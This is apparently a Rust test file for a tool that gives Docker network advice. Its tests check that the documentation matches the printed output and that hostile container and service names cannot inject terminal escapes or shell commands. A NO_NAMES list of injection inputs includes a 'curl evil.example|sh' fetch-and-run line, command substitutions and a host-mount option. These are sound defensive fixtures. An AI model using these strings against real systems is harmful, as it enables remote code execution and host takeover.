//! How advice looks.

use std::sync::Arc;

use serde_json::Value;

use super::{
    scene::{HOUR, Scene, container, labelled, unit},
    text, web_server,
};
use crate::{
    advise::{Advice, show},
    event::Joined,
    text::{is_unsafe, shell::ShellWord},
};

/// A web server that also uses what listens on the host: one for everyone, one container.
fn web() -> Advice {
    let mut scene = Scene::new();
    scene.listen("[::]:8080");
    scene.accept("10.0.0.2:8080", "10.0.0.9:5000", 40);
    scene.closed(180_000_000, 1_200_000, 12);
    scene.listen("127.0.0.1:9100");
    scene.accept("127.0.0.1:9100", "127.0.0.1:40000", 3);
    scene.pass(26 * HOUR);
    scene.send("10.0.0.53:53");
    scene.connect("93.184.216.34:443", 6);
    scene.connect_to("127.0.0.1:5432", unit("postgresql.service"), "0.0.0.0:5432");
    scene.advice()
}

/// One that sniffs, and one that uses what listens on the host's loopback alone.
fn needed(scene: &mut Scene) -> [Advice; 2] {
    scene.container("probe", &[]);
    scene.sniff();
    scene.pass(HOUR);
    let probe = scene.advice();
    scene.container("worker", &[]);
    scene.connect_to("127.0.0.1:6379", unit("redis-server.service"), "127.0.0.1:6379");
    scene.pass(HOUR);
    [probe, scene.advice()]
}

/// So that nobody has to believe the documentation.
#[test]
fn the_documentation_shows_what_is_printed() {
    let mut scene = web_server();
    let [_, worker] = needed(&mut scene);
    scene.container("idle", &[]);
    scene.act(Joined::default(), 0);
    let mut all = Vec::new();
    let to = anstream::StripStream::new(&mut all);
    show::all(&scene.all(), show::Form::Table, to).unwrap();
    let documentation = include_str!("../../../../docs/advise.md");
    let mut missing = String::new();
    for shown in [text(&web()), text(&worker), String::from_utf8(all).unwrap()] {
        let shown: String = shown.lines().map(|line| format!("{}\n", line.trim_end())).collect();
        if !documentation.contains(&shown) {
            missing.push_str(&format!("```\n{shown}```\n"));
        }
    }
    assert!(missing.is_empty(), "docs/advise.md has not:\n{missing}");
}

#[test]
fn hostile_names_drive_no_terminal() {
    let mut scene = Scene::without_agent("\u{1b}[2J\nevil: {x}", "2026-11-28T00:00:01Z");
    scene.listen("0.0.0.0:80");
    let advice = scene.advice();
    let shown = text(&advice);
    assert!(!shown.contains('\u{1b}'), "{shown:?}");
    // No service has such a name.
    assert!(advice.change.compose.contains("  SERVICE:\n"), "{}", advice.change.compose);
    let mut all = Vec::new();
    let to = anstream::StripStream::new(&mut all);
    show::all(&scene.all(), show::Form::Table, to).unwrap();
    assert!(!all.contains(&0x1b));
    let mut json = Vec::new();
    show::all(&scene.all(), show::Form::Json, &mut json).unwrap();
    let json: Value = serde_json::from_slice(&json).unwrap();
    assert_eq!(json[0]["label"], "\u{1b}[2J\nevil: {x}");
    assert_eq!(json[0]["verdict"]["answer"], "not-enough-observed");
    assert_eq!(json[0]["ports"][0]["publish"]["publish"], "as");
}

/// What Docker would not take as a name, and what a shell would make more of than a name.
const NO_NAMES: [&str; 7] = [
    "x; curl -s evil.example|sh #",
    "$(id)",
    "`id`",
    "a'b\"c\\d",
    "-v/:/host",
    "two\nlines",
    "n\u{9b}31mR\u{202e}",
];

/// The words of the commands that are printed are options and their values, and the names
/// in them are names that Docker takes, whatever an image calls its service and its project.
#[test]
fn a_service_that_is_called_like_a_command_is_no_part_of_one() {
    for hostile in NO_NAMES {
        let mut scene = Scene::new();
        let compose =
            [("com.docker.compose.project", hostile), ("com.docker.compose.service", hostile)];
        let swarm = [("com.docker.swarm.service.name", hostile)];
        for (labels, name) in [(&[][..], hostile), (&compose, "web"), (&swarm, "task")] {
            let acting = labelled(name, "2026-11-28T00:00:01Z", &[], labels);
            scene.by(Arc::clone(&acting));
            scene.listen("[::]:8080");
            scene.accept("10.0.0.2:8080", "10.0.0.9:5000", 20);
            let other = container(&format!("{hostile}2"), "2026-11-28T00:00:00Z", &[]);
            scene.connect_to("127.0.0.1:5432", other, "0.0.0.0:5432");
            let [advice] = scene.called(name).try_into().unwrap();
            let shown = text(&advice);
            let change = &advice.change;
            assert_eq!(change.options(1).0, "--network NETWORK", "{shown}");
            let commands =
                "docker network create NETWORK; docker network connect NETWORK CONTAINER";
            assert!(change.conditions.iter().any(|one| one.ends_with(commands)), "{shown}");
            assert!(change.compose.contains("      - NETWORK\n"), "{}", change.compose);
            let commands: Vec<&str> = shown
                .lines()
                .map(str::trim)
                .filter(|line| line.starts_with("--network") || line.starts_with("-p"))
                .collect();
            if !matches!(advice.change.command, "docker compose") {
                assert_eq!(commands.len(), 1, "{shown}");
                assert!(commands[0].starts_with("--network NETWORK -"), "{shown}");
            }
            assert!(!shown.chars().any(|c| c != '\n' && is_unsafe(c)), "{shown:?}");
        }
        let mut all = Vec::new();
        show::all(&scene.all(), show::Form::Table, anstream::StripStream::new(&mut all)).unwrap();
        let all = String::from_utf8(all).unwrap();
        assert!(all.contains("--network NETWORK -p 8080:8080"), "{all}");
    }
}

#[test]
fn a_declared_mode_is_one_word_of_a_command() {
    for hostile in NO_NAMES {
        let mut scene = web_server();
        scene.act(Joined { declared: Some(hostile.to_owned()) }, 0);
        let shown = text(&scene.advice());
        let line = format!(
            "  in your docker run command, replace --network {} by",
            ShellWord::new(hostile)
        );
        assert!(shown.lines().any(|one| one == line), "{shown}");
    }
}

#[test]
fn whose_network_it_joined_is_said() {
    let mut scene = web_server();
    let declared = Some(format!("container:{}", "ab".repeat(32)));
    scene.act(Joined { declared }, 0);
    let shown = text(&scene.advice());
    assert!(shown.contains("its network mode is container:abababababab, and"), "{shown}");
    assert!(shown.contains("replace --network container:abababababab by"), "{shown}");
}
